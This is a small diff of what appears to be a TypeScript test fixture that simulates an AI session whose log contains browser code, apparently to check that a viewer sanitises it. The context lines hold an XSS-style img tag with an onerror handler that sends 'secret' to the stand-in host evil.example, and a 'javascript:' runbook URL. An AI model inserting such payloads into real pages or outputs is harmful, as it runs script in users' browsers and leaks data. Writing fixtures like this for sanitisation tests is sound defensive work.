@@ -9,7 +9,7 @@ const HOSTILE = `<img src="https://evil.example/?q=secret" onerror="window.broke
 [fine](https://example.org) and **strong**
 `
 
-/** A model that has read a log in which somebody wrote for browsers. */
+/** A session whose model has read a log with code for browsers in it. */
 export function hostile(id: string, now: number): Script {
   const s = new Script(id, now - 180_000)
   const rest = { alert_type: 'host', chain_id: 'host', author: 'tom', runbook_url: 'javascript:window.broken=1' }
